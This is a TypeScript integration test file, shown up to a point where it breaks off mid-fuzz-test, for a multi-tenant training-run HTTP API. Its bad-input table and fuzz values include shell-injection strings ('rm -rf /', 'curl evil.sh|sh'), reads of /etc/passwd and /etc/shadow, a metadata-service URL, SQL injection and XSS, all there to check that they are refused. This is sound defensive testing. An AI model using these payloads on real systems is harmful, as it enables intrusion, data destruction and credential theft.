import { createServer } from 'node:net';
import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import {
  CreateQueueCommand,
  DeleteMessageCommand,
  type Message,
  ReceiveMessageCommand,
  SQSClient,
} from '@aws-sdk/client-sqs';
import fc from 'fast-check';
import { startFauxqs } from 'fauxqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../lib/config.ts';
import { RunMessageSchema } from '../../lib/intake/message-schema.ts';
import { checkTenancy, requireTeam } from '../../lib/intake/tenancy.ts';
import { runIdFromKey } from '../../lib/run/ids.ts';
import type { RunRecord } from '../../lib/run/record.ts';
import { makeRunRecords } from '../../lib/run/records.ts';
import { LIMITS, parseRunRequest } from '../../lib/run/schema.ts';
import { apiRoutes, startHttpApi } from '../../local/http-api.ts';
import { startConditionalS3Proxy } from '../../local/s3/conditional-proxy.ts';
import { type LocalStateTable, startLocalStateTable } from '../../local/state-table.ts';
import { itemKeys, tableOf } from '../helpers/state.ts';

/**
 * The HTTP API end to end on the local stand-ins: the real handlers (functions/api/*) behind the
 * local HTTP host, S3 from fauxqs behind the conditional-write proxy, SQS from fauxqs. No cluster:
 * the configured one points at a closed port, so the dry run's runtime check reports "skipped".
 */

const VISION = 'arn:aws:iam::111122223333:role/vision-ci';
const NLP = 'arn:aws:iam::111122223333:role/nlp-ci';
const STRANGER = 'arn:aws:iam::999999999999:user/mallory';
const BUCKET = 'gantry-api-test';
const credentials = { accessKeyId: 'test', secretAccessKey: 'test' };

async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  await new Promise((r) => server.close(r));
  return port;
}

const config = (kubeconfig: string) =>
  parseConfig({
    clusters: [{ name: 'local', kubeconfig }],
    teams: [
      {
        name: 'vision',
        principals: ['arn:aws:iam::111122223333:role/vision-*'],
        namespaces: ['team-vision', 'vision-research'],
        queues: ['vision-queue'],
        imagePrefixes: ['ghcr.io/acme/', 'registry.example.com/vision'],
        maxNodes: 8,
        maxGpusPerRun: 16,
        // No consumer runs here, so accepted runs stay in flight: caps high enough for the fuzzing.
        maxRunsInFlight: 100_000,
        maxGpusInFlight: 1_000_000,
      },
      {
        name: 'nlp',
        principals: [NLP],
        namespaces: ['team-nlp'],
        imagePrefixes: ['ghcr.io/acme/nlp/'],
        maxNodes: 4,
        maxGpusPerRun: 8,
      },
    ],
  });

const valid = (overrides: Record<string, unknown> = {}): Record<string, unknown> => ({
  modelName: 'resnet',
  team: 'vision',
  runtime: { name: 'torch-distributed' },
  image: 'ghcr.io/acme/train:1.0',
  ...overrides,
});

interface Call {
  method?: 'GET' | 'POST';
  path?: string;
  /** A value to send as JSON, or a string sent as it is. */
  body?: unknown;
  raw?: string;
  principal?: string | null;
  /** Several keys are sent as a repeated header. */
  key?: string | string[];
  contentType?: string | null;
}

describe('HTTP API on the local stand-ins', () => {
  let fauxqs: Awaited<ReturnType<typeof startFauxqs>>;
  let proxy: Awaited<ReturnType<typeof startConditionalS3Proxy>>;
  let api: Awaited<ReturnType<typeof startHttpApi>>;
  let s3: S3Client;
  let sqs: SQSClient;
  let queueUrl: string;
  let state: LocalStateTable;
  const saved = { ...process.env };
  let gantryConfig: ReturnType<typeof config>;

  beforeAll(async () => {
    fauxqs = await startFauxqs({ port: 0, logger: false, host: '127.0.0.1' });
    state = await startLocalStateTable();
    proxy = await startConditionalS3Proxy({ upstream: `http://127.0.0.1:${fauxqs.port}` });
    const sqsEndpoint = `http://127.0.0.1:${fauxqs.port}`;
    s3 = new S3Client({ endpoint: proxy.url, forcePathStyle: true, region: 'us-east-1', credentials });
    sqs = new SQSClient({ endpoint: sqsEndpoint, region: 'us-east-1', credentials });
    await s3.send(new CreateBucketCommand({ Bucket: BUCKET }));
    queueUrl = (await sqs.send(new CreateQueueCommand({ QueueName: 'api-runs' }))).QueueUrl as string;
    const kubeconfig = [
      'apiVersion: v1',
      'kind: Config',
      `clusters: [{name: c, cluster: {server: 'http://127.0.0.1:${await closedPort()}', insecure-skip-tls-verify: true}}]`,
      'users: [{name: u, user: {token: t}}]',
      'contexts: [{name: x, context: {cluster: c, user: u}}]',
      'current-context: x',
      '',
    ].join('\n');
    gantryConfig = config(kubeconfig);
    Object.assign(process.env, {
      AWS_REGION: 'us-east-1',
      AWS_ACCESS_KEY_ID: 'test',
      AWS_SECRET_ACCESS_KEY: 'test',
      GANTRY_BUCKET: BUCKET,
      GANTRY_STATE_TABLE: state.tableName,
      GANTRY_DYNAMODB_ENDPOINT: state.endpoint,
      GANTRY_STATE_MACHINE_ARN: 'arn:aws:states:us-east-1:000000000000:stateMachine:gantry',
      GANTRY_RUNS_QUEUE_URL: queueUrl,
      GANTRY_S3_ENDPOINT: proxy.url,
      GANTRY_SQS_ENDPOINT: sqsEndpoint,
      GANTRY_CONFIG: JSON.stringify(gantryConfig),
      GANTRY_LOG_LEVEL: 'silent',
    });
    api = await startHttpApi({ routes: apiRoutes(), port: 0 });
  });

  afterAll(async () => {
    process.env = saved;
    await api?.close();
    s3?.destroy();
    sqs?.destroy();
    await proxy?.close();
    await fauxqs?.stop();
    await state?.close();
  });

  async function call(c: Call): Promise<{ status: number; headers: Headers; body: Record<string, unknown> }> {
    const headers = new Headers();
    if (c.principal !== null) headers.set('x-gantry-principal', c.principal ?? VISION);
    for (const key of c.key === undefined ? [] : [c.key].flat()) headers.append('idempotency-key', key);
    const hasBody = c.raw !== undefined || c.body !== undefined;
    if (hasBody && c.contentType !== null) headers.set('content-type', c.contentType ?? 'application/json');
    const res = await fetch(`${api.url}${c.path ?? '/v1/runs'}`, {
      method: c.method ?? 'POST',
      headers,
      ...(hasBody ? { body: c.raw ?? JSON.stringify(c.body) } : {}),
    });
    const text = await res.text();
    return { status: res.status, headers: res.headers, body: text ? JSON.parse(text) : {} };
  }

  async function drain(): Promise<Message[]> {
    const all: Message[] = [];
    for (;;) {
      const out = await sqs.send(
        new ReceiveMessageCommand({
          QueueUrl: queueUrl,
          MaxNumberOfMessages: 10,
          MessageAttributeNames: ['All'],
          WaitTimeSeconds: 0,
        }),
      );
      const messages = out.Messages ?? [];
      if (messages.length === 0) return all;
      all.push(...messages);
      for (const m of messages) {
        await sqs.send(new DeleteMessageCommand({ QueueUrl: queueUrl, ReceiptHandle: m.ReceiptHandle }));
      }
    }
  }

  async function recordKeys(): Promise<string[]> {
    return itemKeys({ stateTable: { name: state.tableName, client: state.client } });
  }

  async function readRecord(runId: string): Promise<RunRecord | undefined> {
    return makeRunRecords({
      table: tableOf({ stateTable: { name: state.tableName, client: state.client } }),
      clock: { now: () => new Date() },
    }).get(runId);
  }

  describe('submit', () => {
    it('accepts a run: 202, Location, a record and a message on the queue', async () => {
      await drain();
      const res = await call({ body: valid(), key: 'submit-1' });
      const runId = runIdFromKey('vision', 'submit-1');
      expect(res.status).toBe(202);
      expect(res.headers.get('location')).toBe(`/v1/runs/${runId}`);
      expect(res.body).toEqual({
        runId,
        phase: 'Accepted',
        links: {
          self: `/v1/runs/${runId}`,
          cancel: `/v1/runs/${runId}/cancel`,
          rerun: `/v1/runs/${runId}/rerun`,
        },
      });
      expect(await readRecord(runId)).toMatchObject({
        phase: 'Accepted',
        spec: { namespace: 'team-vision' },
      });
      const messages = await drain();
      expect(messages).toHaveLength(1);
      expect(messages[0]?.MessageAttributes).toMatchObject({
        runId: { DataType: 'String', StringValue: runId },
        idempotencyKey: { DataType: 'String', StringValue: 'submit-1' },
      });
      const message = RunMessageSchema.parse(JSON.parse(messages[0]?.Body ?? ''));
      expect(message.run.runId).toBe(runId);
    });

    it('reruns a run: 202, a new record naming it, its request again with the overrides, a message', async () => {
      await drain();
      const first = await call({ body: valid({ env: { LR: '0.1' } }), key: 'rerun-src' });
      await drain();
      const res = await call({
        path: `/v1/runs/${first.body.runId}/rerun`,
        body: { overrides: { env: { LR: '0.01' } } },
        key: 'rerun-1',
      });
      expect(res.status, JSON.stringify(res.body)).toBe(202);
      const runId = runIdFromKey('vision', 'rerun-1');
      expect(res.body).toMatchObject({ runId, rerunOf: first.body.runId });
      expect(res.headers.get('location')).toBe(`/v1/runs/${runId}`);
      const record = await readRecord(runId);
      expect(record?.rerunOf).toBe(first.body.runId);
      expect(record?.spec.request.env).toEqual({ LR: '0.01' });
      expect(record?.spec.request.idempotencyKey).toBe('rerun-1');
      const sent = await drain();
      expect(sent.map((m) => m.MessageAttributes?.runId?.StringValue)).toEqual([runId]);
      // No body at all: the request as it was.
      const plain = await call({ path: `/v1/runs/${first.body.runId}/rerun` });
      expect(plain.status, JSON.stringify(plain.body)).toBe(202);
      expect((await readRecord(plain.body.runId as string))?.spec.request.env).toEqual({ LR: '0.1' });
      await drain();
    });

    it('replays the same key and body: same run, 200, no second record', async () => {
      const first = await call({ body: valid({ modelName: 'replayed' }), key: 'replay-1' });
      const keysBefore = await recordKeys();
      const second = await call({ body: valid({ modelName: 'replayed' }), key: 'replay-1' });
      expect(first.status).toBe(202);
      expect(second.status).toBe(200);
      expect(second.body).toEqual(first.body);
      expect(await recordKeys()).toEqual(keysBefore);
    });

    it('refuses the same key with another body (409)', async () => {
      await call({ body: valid({ modelName: 'first' }), key: 'conflict-1' });
      const res = await call({ body: valid({ modelName: 'second' }), key: 'conflict-1' });
      expect(res.status).toBe(409);
      expect(res.body.error).toBe('IdempotencyConflictError');
      expect((await readRecord(runIdFromKey('vision', 'conflict-1')))?.spec.request.modelName).toBe('first');
    });

    it("refuses another team's namespace and an image outside the allow-list (403 naming the rule)", async () => {
      const ns = await call({ body: valid({ namespace: 'kube-system' }) });
      expect(ns.status).toBe(403);
      expect(ns.body).toMatchObject({
        error: 'ForbiddenError',
        rule: 'namespace kube-system is not allowed for team vision (allowed: team-vision, vision-research)',
      });
      const image = await call({ body: valid({ image: 'docker.io/library/python:3' }) });
      expect(image.status).toBe(403);
      expect(image.body.rule).toMatch(/^image docker.io\/library\/python:3 is not allowed for team vision/);
    });
  });

  it("refuses another team's model name (403 naming the owner) and writes nothing", async () => {
    // Prepare: nlp owns "bert" (its first publish wrote the owner file).
    await s3.send(
      new PutObjectCommand({
        Bucket: BUCKET,
        Key: 'models/bert/owner.json',
        Body: JSON.stringify({
          model: 'bert',
          team: 'nlp',
          runId: 'run-aaaaaaaaaaaaaaaaaaaa',
          claimedAt: 'x',
        }),
      }),
    );
    await drain();
    const before = await recordKeys();
    // Act
    const res = await call({ body: valid({ modelName: 'bert' }) });
    const dry = await call({ path: '/v1/runs/validate', body: valid({ modelName: 'bert' }) });
    // Assess
    expect(res.status, JSON.stringify(res.body)).toBe(403);
    expect(res.body.rule).toBe('model bert belongs to team nlp; choose another modelName');
    expect(dry.status).toBe(403);
    expect(await recordKeys()).toEqual(before);
    expect(await drain()).toEqual([]);
    const owner = await call({
      body: valid({ team: 'nlp', image: 'ghcr.io/acme/nlp/x:1', modelName: 'bert' }),
      principal: NLP,
    });
    expect(owner.status).toBe(202);
  });

  describe('get and list', () => {
    it('gets a run, and 404s an unknown one and another team’s alike (get, metrics, events, cancel, rerun)', async () => {
      const { body } = await call({
        body: valid({ team: 'nlp', image: 'ghcr.io/acme/nlp/x:1' }),
        principal: NLP,
      });
      const runId = body.runId as string;
      const own = await call({ method: 'GET', path: `/v1/runs/${runId}`, principal: NLP });
      expect(own.status).toBe(200);
      expect(own.body).toMatchObject({ runId, phase: 'Accepted', team: 'nlp', namespace: 'team-nlp' });
      expect(own.body).not.toHaveProperty('fingerprint');
      const events = await call({ method: 'GET', path: `/v1/runs/${runId}/events`, principal: NLP });
      expect(events.status).toBe(200);
      expect(events.body).toMatchObject({
        runId,
        events: [
          { id: `${runId}:0`, type: 'gantry.run.accepted', data: { team: 'nlp', phase: 'Accepted', seq: 0 } },
        ],
      });
      const unknownId = 'run-zzzzzzzzzzzzzzzzzzzz';
      for (const [method, suffix] of [
        ['GET', ''],
        ['GET', '/metrics'],
        ['GET', '/events'],
        ['POST', '/cancel'],
        ['POST', '/rerun'],
      ] as const) {
        const foreign = await call({ method, path: `/v1/runs/${runId}${suffix}` });
        const unknown = await call({ method, path: `/v1/runs/${unknownId}${suffix}`, principal: NLP });
        expect([foreign.status, unknown.status], `${method} ${suffix}`).toEqual([404, 404]);
        // Word for word the same answer but for the id: nothing tells that the run exists.
        expect(JSON.stringify(foreign.body).replace(runId, 'ID')).toBe(
          JSON.stringify(unknown.body).replace(unknownId, 'ID'),
        );
      }
      expect((await call({ method: 'GET', path: `/v1/runs/${runId}`, principal: NLP })).body).toMatchObject({
        phase: 'Accepted',
      });
    });

    it("pages through the caller's runs", async () => {
      const mine: string[] = [];
      for (let i = 0; i < 7; i++) {
        const res = await call({
          body: valid({ team: 'nlp', image: 'ghcr.io/acme/nlp/x:1', modelName: `bert-${i}` }),
          principal: NLP,
          key: `page-${i}`,
        });
        mine.push(res.body.runId as string);
      }
      const seen: string[] = [];
      const created: string[] = [];
      let token: string | undefined;
      let pages = 0;
      do {
        const q = new URLSearchParams({ limit: '3', ...(token ? { nextToken: token } : {}) });
        const res = await call({ method: 'GET', path: `/v1/runs?${q}`, principal: NLP });
        expect(res.status).toBe(200);
        const runs = res.body.runs as Array<{ runId: string; team: string; createdAt: string }>;
        expect(runs.length).toBeLessThanOrEqual(3);
        for (const r of runs) expect(r.team).toBe('nlp');
        seen.push(...runs.map((r) => r.runId));
        created.push(...runs.map((r) => r.createdAt));
        token = res.body.nextToken as string | undefined;
        pages++;
      } while (token);
      // Newest first, each run once; the runs submitted here come out in reverse order.
      expect(created).toEqual([...created].sort().reverse());
      expect(new Set(seen).size).toBe(seen.length);
      expect(seen.filter((id) => mine.includes(id))).toEqual([...mine].reverse());
      expect(pages).toBeGreaterThanOrEqual(3);
      const filtered = await call({ method: 'GET', path: '/v1/runs?model=bert-3', principal: NLP });
      expect((filtered.body.runs as Array<{ runId: string }>).map((r) => r.runId)).toEqual([mine[3]]);
    });

    it('answers unknown routes 404 and wrong methods 405, as API Gateway does', async () => {
      expect((await call({ method: 'GET', path: '/v1/nothing' })).status).toBe(404);
      expect((await call({ method: 'GET', path: '/v1/runs/run-zzzzzzzzzzzzzzzzzzzz/cancel' })).status).toBe(
        405,
      );
    });

    it('serves the OpenAPI document', async () => {
      const res = await call({ method: 'GET', path: '/v1/openapi.json', principal: null });
      expect(res.status).toBe(200);
      expect(res.body.openapi).toBe('3.1.0');
    });

    it('dry-runs a request, saying which cluster checks it could not make', async () => {
      const res = await call({ path: '/v1/runs/validate', body: valid() });
      expect(res.status).toBe(200);
      expect(res.body.valid).toBe(true);
      const checks = res.body.checks as Array<{ name: string; status: string; message: string }>;
      expect(checks.map((c) => [c.name, c.status])).toEqual([
        ['schema', 'passed'],
        ['tenancy', 'passed'],
        ['runtime', 'skipped'],
        ['quota', 'skipped'],
      ]);
      expect(checks[2]?.message).toMatch(/unavailable/);
    });
  });

  // Each case: what is sent, the status, and for a 400 the field (and rule) named; for a 403 the rule.
  type Bad = [
    name: string,
    call: Call,
    status: number,
    expected: { error?: string; field?: string; rule?: RegExp },
  ];
  const big = 'x'.repeat(300 * 1024);
  const BAD: Bad[] = [
    ['malformed JSON', { raw: '{"modelName":' }, 400, { error: 'InvalidJson' }],
    ['trailing garbage', { raw: '{} x' }, 400, { error: 'InvalidJson' }],
    ['an empty body', { raw: '' }, 400, { error: 'InvalidJson' }],
    ['a __proto__ key', { raw: '{"__proto__":{"admin":true}}' }, 400, { error: 'InvalidJson' }],
    ['text/plain', { body: valid(), contentType: 'text/plain' }, 415, { error: 'UnsupportedMediaType' }],
    [
      'a form post',
      { raw: 'modelName=x', contentType: 'application/x-www-form-urlencoded' },
      415,
      { error: 'UnsupportedMediaType' },
    ],
    ['no content type', { body: valid(), contentType: null }, 415, { error: 'UnsupportedMediaType' }],
    ['an oversize body', { body: valid({ env: { BIG: big } }) }, 413, { error: 'PayloadTooLarge' }],
    ['an array', { body: [valid()] }, 400, { field: '', rule: /must be object, got array/ }],
    ['null', { raw: 'null' }, 400, { field: '', rule: /got null/ }],
    ['a string', { raw: '"run please"' }, 400, { field: '', rule: /got string/ }],
    [
      'a missing modelName',
      { body: valid({ modelName: undefined }) },
      400,
      { field: 'modelName', rule: /is required/ },
    ],
    [
      'an unknown field',
      { body: valid({ priority: 'high' }) },
      400,
      { field: 'priority', rule: /unknown field/ },
    ],
    [
      'an unknown nested field',
      { body: valid({ runtime: { name: 'x', version: 2 } }) },
      400,
      { field: 'runtime.version', rule: /unknown field/ },
    ],
    [
      'a number for modelName',
      { body: valid({ modelName: 42 }) },
      400,
      { field: 'modelName', rule: /must be string/ },
    ],
    ['a string for numNodes', { body: valid({ numNodes: '2' }) }, 400, { field: 'numNodes' }],
    [
      'a fractional numNodes',
      { body: valid({ numNodes: 1.5 }) },
      400,
      { field: 'numNodes', rule: /whole number/ },
    ],
    ['zero nodes', { body: valid({ numNodes: 0 }) }, 400, { field: 'numNodes', rule: /at least 1/ }],
    [
      'an upper-case modelName',
      { body: valid({ modelName: 'ResNet' }) },
      400,
      { field: 'modelName', rule: /RFC 1035/ },
    ],
    [
      'shell injection in modelName',
      { body: valid({ modelName: 'resnet; rm -rf /' }) },
      400,
      { field: 'modelName' },
    ],
    [
      'command substitution in modelName',
      { body: valid({ modelName: '$(whoami)' }) },
      400,
      { field: 'modelName' },
    ],
    ['a traversal in team', { body: valid({ team: '../vision' }) }, 400, { field: 'team' }],
    [
      'a newline in namespace',
      { body: valid({ namespace: 'team-vision\nkube-system' }) },
      400,
      { field: 'namespace' },
    ],
    [
      'a reserved label key',
      { body: valid({ labels: { 'gantry.dev/run-id': 'x' } }) },
      400,
      { field: 'labels.gantry.dev/run-id', rule: /reserved prefix/ },
    ],
    [
      'a label value with spaces',
      { body: valid({ labels: { app: 'a b' } }) },
      400,
      { field: 'labels.app', rule: /label value/ },
    ],
    [
      'a quoted label key',
      { body: valid({ labels: { '"x"': 'y' } }) },
      400,
      { field: 'labels."x"', rule: /label key/ },
    ],
    [
      'an env name with =',
      { body: valid({ env: { 'LD_PRELOAD=': '/x.so' } }) },
      400,
      { field: 'env.LD_PRELOAD=' },
    ],
    [
      'a reserved env name',
      { body: valid({ env: { GANTRY_BUCKET: 'other' } }) },
      400,
      { field: 'env.GANTRY_BUCKET', rule: /reserved/ },
    ],
    [
      'a NUL in an env value',
      { body: valid({ env: { X: 'a\u0000b' } }) },
      400,
      { field: 'env.X', rule: /NUL/ },
    ],
    [
      'a NUL in a command',
      { body: valid({ command: ['python\u0000'] }) },
      400,
      { field: 'command.0', rule: /NUL/ },
    ],
    [
      'too many env entries',
      {
        body: valid({
          env: Object.fromEntries(Array.from({ length: LIMITS.envEntries + 1 }, (_, i) => [`E${i}`, '1'])),
        }),
      },
      400,
      { field: 'env', rule: /at most \d+ env entries/ },
    ],
    [
      'args over 64 KiB in total',
      { body: valid({ args: Array.from({ length: 20 }, () => 'a'.repeat(4000)) }) },
      400,
      { field: 'args', rule: /bytes/ },
    ],
    [
      'too many labels',
      {
        body: valid({
          labels: Object.fromEntries(Array.from({ length: LIMITS.labels + 1 }, (_, i) => [`l${i}`, 'v'])),
        }),
      },
      400,
      { field: 'labels', rule: /at most \d+ labels/ },
    ],
    [
      'a traversal in the output',
      { body: valid({ output: { uri: 's3://vision-data/a/../../b/' } }) },
      400,
      { field: 'output.uri', rule: /'\.\.'/ },
    ],
    [
      'an empty segment in the output',
      { body: valid({ output: { uri: 's3://vision-data/a//b/' } }) },
      400,
      { field: 'output.uri' },
    ],
    [
      'a file:// output',
      { body: valid({ output: { uri: 'file:///etc/passwd' } }) },
      400,
      { field: 'output.uri' },
    ],
    [
      'a backslash in the output',
      { body: valid({ output: { uri: 's3://vision-data/a\\..\\b/' } }) },
      400,
      { field: 'output.uri' },
    ],
    [
      'a control character in the output',
      { body: valid({ output: { uri: 's3://vision-data/a\u0007/' } }) },
      400,
      { field: 'output.uri' },
    ],
    [
      'an output over another run',
      { body: valid({ output: { uri: `s3://${BUCKET}/runs/run-zzzzzzzzzzzzzzzzzzzz/output/` } }) },
      403,
      {
        rule: /output.uri s3:\/\/gantry-api-test\/runs\/run-z+\/output\/ is outside team vision's output locations/,
      },
    ],
    [
      'an output in another bucket',
      { body: valid({ output: { uri: 's3://nlp-private/out/' } }) },
      403,
      {
        rule: /output.uri s3:\/\/nlp-private\/out\/ is outside team vision's output locations \(s3:\/\/gantry-api-test\/runs\/run-/,
      },
    ],
    [
      'a priority class the team is not given',
      { body: valid({ priorityClass: 'high' }) },
      403,
      { rule: /priorityClass high is not allowed for team vision \(allowed: none\)/ },
    ],
    [
      'a system priority class',
      { body: valid({ priorityClass: 'system-cluster-critical' }) },
      403,
      { rule: /priorityClass system-cluster-critical is reserved/ },
    ],
    [
      'a dataset on the node disk',
      { body: valid({ datasetUri: 'file:///etc/shadow' }) },
      400,
      { field: 'datasetUri', rule: /scheme must be one of s3:\/\/, gs:\/\/, hf:\/\// },
    ],
    [
      'a model from the metadata service',
      { body: valid({ modelUri: 'http://169.254.169.254/latest/meta-data/iam/' }) },
      400,
      { field: 'modelUri', rule: /scheme must be one of/ },
    ],
    [
      'a repeated Idempotency-Key header',
      { body: valid(), key: ['k-1', 'k-2'] },
      400,
      { field: 'Idempotency-Key', rule: /send the header once/ },
    ],
    [
      'a dataset path without scheme',
      { body: valid({ datasetUri: '/etc/passwd' }) },
      400,
      { field: 'datasetUri' },
    ],
    [
      'shell in the image',
      { body: valid({ image: 'ghcr.io/acme/train:1;curl evil.sh|sh' }) },
      400,
      { field: 'image' },
    ],
    ['an upper-case image path', { body: valid({ image: 'ghcr.io/ACME/train:1' }) }, 400, { field: 'image' }],
    [
      'an image outside the allow-list',
      { body: valid({ image: 'docker.io/evil/miner:latest' }) },
      403,
      { rule: /image docker.io\/evil\/miner:latest is not allowed/ },
    ],
    [
      'an image sharing only a prefix',
      { body: valid({ image: 'registry.example.com/visionary/x:1' }) },
      403,
      { rule: /is not allowed/ },
    ],
    ['absurd nodes', { body: valid({ numNodes: 100000 }) }, 400, { field: 'numNodes', rule: /at most 1024/ }],
    ['more nodes than the team may use', { body: valid({ numNodes: 20 }) }, 403, { rule: /maxNodes 8/ }],
    [
      'absurd GPUs per node',
      { body: valid({ resourcesPerNode: { gpu: 1000 } }) },
      400,
      { field: 'resourcesPerNode.gpu' },
    ],
    [
      'more GPUs than the team may use',
      { body: valid({ numNodes: 4, resourcesPerNode: { gpu: 8 } }) },
      403,
      { rule: /maxGpusPerRun 16/ },
    ],
    [
      'an exponent CPU',
      { body: valid({ resourcesPerNode: { cpu: '1e9' } }) },
      400,
      { field: 'resourcesPerNode.cpu' },
    ],
    [
      'absurd memory',
      { body: valid({ resourcesPerNode: { memory: '100Pi' } }) },
      400,
      { field: 'resourcesPerNode.memory' },
    ],
    [
      'a negative CPU',
      { body: valid({ resourcesPerNode: { cpu: -1 } }) },
      400,
      { field: 'resourcesPerNode.cpu' },
    ],
    [
      'a one-second admission deadline',
      { body: valid({ admissionDeadlineSeconds: 1 }) },
      400,
      { field: 'admissionDeadlineSeconds' },
    ],
    [
      'an absurd run deadline',
      { body: valid({ runDeadlineSeconds: 1e12 }) },
      400,
      { field: 'runDeadlineSeconds' },
    ],
    [
      'an object hyperparameter',
      { body: valid({ hyperparameters: { lr: { $gt: 1 } } }) },
      400,
      { field: 'hyperparameters.lr' },
    ],
    [
      'an MPIJob on one node',
      { body: valid({ target: 'MPIJob' }) },
      400,
      { field: 'numNodes', rule: /MPIJob/ },
    ],
    ['kube-system', { body: valid({ namespace: 'kube-system' }) }, 403, { rule: /namespace kube-system/ }],
    ['a foreign queue', { body: valid({ queue: 'nlp-queue' }) }, 403, { rule: /queue nlp-queue/ }],
    ['another team', { body: valid({ team: 'nlp' }) }, 403, { rule: /team nlp is not the caller's team/ }],
    ['no caller identity', { body: valid(), principal: null }, 403, { rule: /no caller identity/ }],
    ['a stranger', { body: valid(), principal: STRANGER }, 403, { rule: /belongs to no team/ }],
    ['a key with spaces', { body: valid(), key: 'my key' }, 400, { field: 'Idempotency-Key' }],
    [
      'header and body keys that differ',
      { body: valid({ idempotencyKey: 'a' }), key: 'b' },
      400,
      { field: 'idempotencyKey' },
    ],
    ['a bad run id', { method: 'GET', path: '/v1/runs/run-NOT-AN-ID' }, 400, { field: 'runId' }],
    [
      'an encoded traversal as run id',
      { method: 'GET', path: '/v1/runs/..%2F..%2Fsecrets' },
      400,
      { field: 'runId' },
    ],
    ['a page size of 1000', { method: 'GET', path: '/v1/runs?limit=1000' }, 400, { field: 'limit' }],
    ['a forged token', { method: 'GET', path: '/v1/runs?nextToken=Li4vLi4v' }, 400, { field: 'nextToken' }],
    ['an unknown query parameter', { method: 'GET', path: '/v1/runs?team=nlp' }, 400, { field: 'team' }],
    ['a bad id to cancel', { path: '/v1/runs/run-x/cancel' }, 400, { field: 'runId' }],
    [
      'cancelling an unknown run',
      { path: '/v1/runs/run-zzzzzzzzzzzzzzzzzzzz/cancel' },
      404,
      { error: 'NotFoundError' },
    ],
    [
      'a dry run as text',
      { path: '/v1/runs/validate', body: valid(), contentType: 'text/plain' },
      415,
      { error: 'UnsupportedMediaType' },
    ],
    [
      'a dry run with an unknown field',
      { path: '/v1/runs/validate', body: valid({ gpu: 1 }) },
      400,
      { field: 'gpu' },
    ],
    [
      'a dry run in kube-system',
      { path: '/v1/runs/validate', body: valid({ namespace: 'kube-system' }) },
      403,
      { rule: /kube-system/ },
    ],
  ];

  describe(`refuses ${BAD.length} bad inputs with a 4xx naming the field or rule`, () => {
    let before: { keys: string[] };
    beforeAll(async () => {
      await drain();
      before = { keys: await recordKeys() };
    });

    it.each(BAD)('%s', async (_name, c, status, expected) => {
      const res = await call(c);
      expect(res.status, JSON.stringify(res.body)).toBe(status);
      if (expected.error) expect(res.body.error).toBe(expected.error);
      if (status === 400 && expected.field !== undefined) {
        expect(res.body.error).toBe('ValidationError');
        const issues = res.body.issues as Array<{ field: string; rule: string }>;
        const issue = issues.find((i) => i.field === expected.field);
        expect(issue, JSON.stringify(issues)).toBeDefined();
        if (expected.rule) expect(issue?.rule).toMatch(expected.rule);
      }
      if (status === 403) {
        expect(res.body.error).toBe('ForbiddenError');
        expect(res.body.rule).toMatch(expected.rule as RegExp);
      }
    });

    it('created no record and sent no message for any of them', async () => {
      expect(await recordKeys()).toEqual(before.keys);
      expect(await drain()).toEqual([]);
    });
  });

  it('accepts any Unicode text in env and args (the queue message is escaped to ASCII)', async () => {
    // Found by the fuzz run below: an emoji reached SQS unescaped and the local SQS refused it (500).
    const raw = JSON.stringify(valid({ env: { X: '🚀 naïve \ufffe' }, args: ['--name=模型'] }));
    const res = await call({ raw, key: 'unicode-1' });
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    const record = await readRecord(res.body.runId as string);
    expect(record?.spec.request.env).toEqual({ X: '🚀 naïve \ufffe' });
  });

  it('never answers 5xx and never accepts an invalid run, for 1,200 fuzzed requests', async () => {
    const nasty = fc.constantFrom(
      '',
      ' ',
      '../../etc/passwd',
      'kube-system',
      '$(id)',
      '`id`',
      "'; DROP TABLE runs; --",
      '<script>alert(1)</script>',
      '\u0000',
      '\n',
      'a'.repeat(5000),
      '🚀',
      'ghcr.io/acme/train:1',
      'ghcr.io/acme-evil/x:1',
      's3://gantry-api-test/runs/run-zzzzzzzzzzzzzzzzzzzz/',
      's3://vision-data/out/',
      'torch-distributed',
      'team-vision',
      'vision-queue',
      'nlp',
      '__proto__',
      'constructor',
      'GANTRY_X',
    );
    const value = fc.oneof(
      { weight: 3, arbitrary: nasty },
      { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
      { weight: 1, arbitrary: fc.integer({ min: -5, max: 5000 }) },
      { weight: 1, arbitrary: fc.double() },
      { weight: 1, arbitrary: fc.dictionary(nasty, nasty, { maxKeys: 3 }) },
    );
    const paths = fc.constantFrom(
      ['modelName'],
      ['team'],
      ['namespace'],
      ['runtime'],
      ['runtime', 'name'],
      ['runtime', 'kind'],
      ['image'],
      ['command'],
      ['args'],
      ['env'],
      ['env', 'X'],
      ['numNodes'],
      ['resourcesPerNode'],
      ['resourcesPerNode', 'gpu'],
      ['resourcesPerNode', 'cpu'],
      ['resourcesPerNode', 'memory'],
      ['numProcPerNode'],
      ['datasetUri'],
      ['queue'],
      ['priorityClass'],
      ['output'],
      ['output', 'uri'],
      ['producesArtifacts'],
      ['labels'],
      ['labels', 'app'],
      ['hyperparameters'],
      ['idempotencyKey'],
      ['target'],
      ['admissionDeadlineSeconds'],
      ['surprise'],
    );
    const mutation = fc.record({
      path: paths,
      value: fc.option(value, { nil: undefined }),
    });
    const mutated = fc.array(mutation, { minLength: 0, maxLength: 3 }).map((ms) => {
      const body = valid({
        numNodes: 2,
        resourcesPerNode: { cpu: '4', gpu: 2 },
        labels: { app: 'x' },
      }) as Record<string, unknown>;
      for (const { path, value: v } of ms) {
        let node = body;
        for (const key of path.slice(0, -1)) {
          if (typeof node[key] !== 'object' || node[key] === null || Array.isArray(node[key])) node[key] = {};
          node = node[key] as Record<string, unknown>;
        }
        const last = path[path.length - 1] as string;
        if (v === undefined) delete node[last];
        else node[last] = v;
      }
      return JSON.stringify(body);
    });
    const randomJson = fc.jsonValue().map((v) => JSON.stringify(v));
    const request = fc.record({
      raw: fc.oneof({ weight: 4, arbitrary: mutated }, { weight: 1, arbitrary: randomJson }),
      key: fc.option(fc.oneof(fc.string({ maxLength: 20 }), nasty), { nil: undefined }),
      // One request in ten goes to the dry run (drawn by fast-check, so a failure replays from its seed).
      validate: fc.integer({ min: 0, max: 9 }).map((n) => n === 0),
    });

    let accepted = 0;
    const vision = requireTeam({ iamArn: VISION, groups: [] }, gantryConfig, 'vision');
